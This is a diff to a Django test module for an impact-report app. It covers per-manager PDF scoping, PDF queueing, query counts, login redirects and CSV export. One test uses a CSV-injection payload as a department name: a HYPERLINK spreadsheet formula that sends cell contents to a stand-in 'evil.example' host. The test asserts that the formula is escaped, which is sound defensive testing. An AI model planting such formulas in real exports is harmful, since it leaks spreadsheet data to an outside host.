@@ -1,14 +1,16 @@
 import csv
 import io
+import re
 from datetime import date
 
 import pytest
 from django.urls import reverse
 
 from saypro.core.models import ManagerScope
-from saypro.impact.models import Snapshot
+from saypro.impact.models import ReportPdf, Snapshot
 from saypro.impact.services import snapshot_build
 from tests.factories import DepartmentFactory, EnrolmentFactory, ModuleFactory, UserFactory
+from tests.factories.core import PASSWORD
 from tests.factories.feedback import ContributionFactory, FeedbackSessionFactory
 from tests.impact.conftest import at
 from tests.permissions import SIGN_IN, person_for, redirect_path
@@ -113,9 +115,11 @@ def test_pdf_request_queues_then_downloads(snapshot, client_for, manager, monkey
     client = client_for(manager)
     response = client.post("/impact/2026-06/report.pdf")
     assert response.status_code == 302
-    assert queued == [{"snapshot_id": snapshot.pk}]
+    assert queued == [{"snapshot_id": snapshot.pk, "scope": "all"}]
     assert "Preparing the PDF" in client.get("/impact/2026-06/report.pdf").content.decode()
-    tasks.snapshot_pdf_task(snapshot_id=snapshot.pk)
+    client.post("/impact/2026-06/report.pdf")  # asking again while it is on its way queues nothing
+    assert len(queued) == 1
+    tasks.snapshot_pdf_task(snapshot_id=snapshot.pk, scope="all")
     pdf = client.get("/impact/2026-06/report.pdf")
     assert pdf["Content-Type"] == "application/pdf"
     assert pdf.content.startswith(b"%PDF")
@@ -159,7 +163,7 @@ def test_report_page_query_count_does_not_grow_with_data(june, client_for, manag
     snapshot_build(month=date(2026, 5, 1))
     client = client_for(manager)
     client.get("/")  # warm the session
-    with django_assert_num_queries(18):
+    with django_assert_num_queries(19):
         response = client.get("/impact/2026-06/")
     assert response.status_code == 200
 
@@ -178,3 +182,88 @@ def test_report_lists_the_months_highlights(june, client_for, manager):
     assert "Ask the quiet ones first" in html
     assert f'<a href="/reflections/{r1.pk}/">Two-minute check-ins</a>' in html
     assert "No talks this month." not in html
+
+
+def _pdf_text(client, month: str = "2026-06") -> str:
+    """Ask for the PDF, render it as the worker would, download it and return its text."""
+    import shutil
+    import subprocess
+    import tempfile
+
+    from saypro.impact import tasks
+
+    if not shutil.which("pdftotext"):
+        pytest.skip("needs pdftotext (poppler-utils) to read the PDF")
+    client.post(f"/impact/{month}/report.pdf")
+    for pdf in ReportPdf.objects.filter(status="queued"):
+        tasks.snapshot_pdf_task(snapshot_id=pdf.snapshot_id, scope=pdf.scope)
+    response = client.get(f"/impact/{month}/report.pdf")
+    assert response["Content-Type"] == "application/pdf"
+    with tempfile.NamedTemporaryFile(suffix=".pdf") as file:
+        file.write(response.content)
+        file.flush()
+        text = subprocess.run(["pdftotext", "-layout", file.name, "-"], capture_output=True, text=True, check=True)
+    return " ".join(text.stdout.split())
+
+
+# The PDF per scope (issue 11: one cached file served every manager). Each scoped manager's PDF
+# names their department, and the departments their department's matrix cells pair with, and
+# no other; the whole-organisation reader's names all four.
+PDF_SCOPES = [
+    # (scope, departments that must appear, departments that must not)
+    (["IT"], {"IT", "Finance"}, {"HR", "Sales"}),  # IT's only pair: Finance → IT
+    (["Sales"], {"Sales", "HR"}, {"IT", "Finance"}),  # Sales' only pair: HR → Sales
+    (None, {"Finance", "HR", "IT", "Sales"}, set()),
+]
+
+
+@pytest.mark.parametrize(("scope", "present", "absent"), PDF_SCOPES)
+def test_pdf_is_rendered_per_manager_scope(snapshot, june, client, scope, present, absent):
+    reader = UserFactory(roles=["Employee", "Manager"])
+    for name in scope or [None]:
+        ManagerScope.objects.create(manager=reader, department=june.departments[name] if name else None)
+    client.force_login(reader)
+    text = _pdf_text(client)
+    label = "Whole organisation" if scope is None else "Departments: " + ", ".join(scope)
+    assert f"Impact report — June 2026 · {label}" in text  # the footer of every page
+    for name in present:
+        assert re.search(rf"\b{name}\b", text), name
+    for name in absent:
+        assert not re.search(rf"\b{name}\b", text), name
+
+
+def test_two_managers_get_two_pdfs_of_one_snapshot(snapshot, june, client):
+    it_manager, sales_manager = (UserFactory(roles=["Employee", "Manager"]) for _ in range(2))
+    ManagerScope.objects.create(manager=it_manager, department=june.departments["IT"])
+    ManagerScope.objects.create(manager=sales_manager, department=june.departments["Sales"])
+    client.force_login(it_manager)
+    it_text = _pdf_text(client)
+    client.force_login(sales_manager)
+    sales_text = _pdf_text(client)
+    assert "Departments: IT" in it_text and "Sales" not in it_text
+    assert "Departments: Sales" in sales_text and "IT" not in sales_text.split()
+    it_key, sales_key = (str(june.departments[name].pk) for name in ("IT", "Sales"))
+    assert set(ReportPdf.objects.filter(snapshot=snapshot).values_list("scope", flat=True)) == {it_key, sales_key}
+
+
+def test_csv_keeps_a_formula_department_name_as_text(db, client_for, manager):
+    """A department named like a spreadsheet formula reaches the CSV as text, not as a formula."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    department = DepartmentFactory(name=formula)
+    module = ModuleFactory()
+    session = FeedbackSessionFactory(module=module, state="held", starts_at=at(8))
+    for _ in range(5):
+        person = UserFactory(department=department)
+        EnrolmentFactory(person=person, module=module)
+        ContributionFactory(session=session, author=person, department=department)
+    snapshot_build(month=JUNE)
+    content = client_for(manager).get("/impact/2026-06/report.csv").content.decode()
+    labels = [row[5] for row in csv.reader(io.StringIO(content)) if row[3] == "department"]
+    assert labels and all(label == "'" + formula for label in labels)
+    assert "\n=HYPERLINK" not in content and ",=HYPERLINK" not in content
+
+
+def test_manager_lands_on_the_report_after_signing_in(snapshot, client, manager):
+    response = client.post(reverse("account_login"), {"login": manager.email, "password": PASSWORD})
+    assert (response.status_code, response["Location"]) == (302, "/impact/")
+    assert client.get("/impact/")["Location"] == "/impact/2026-06/"
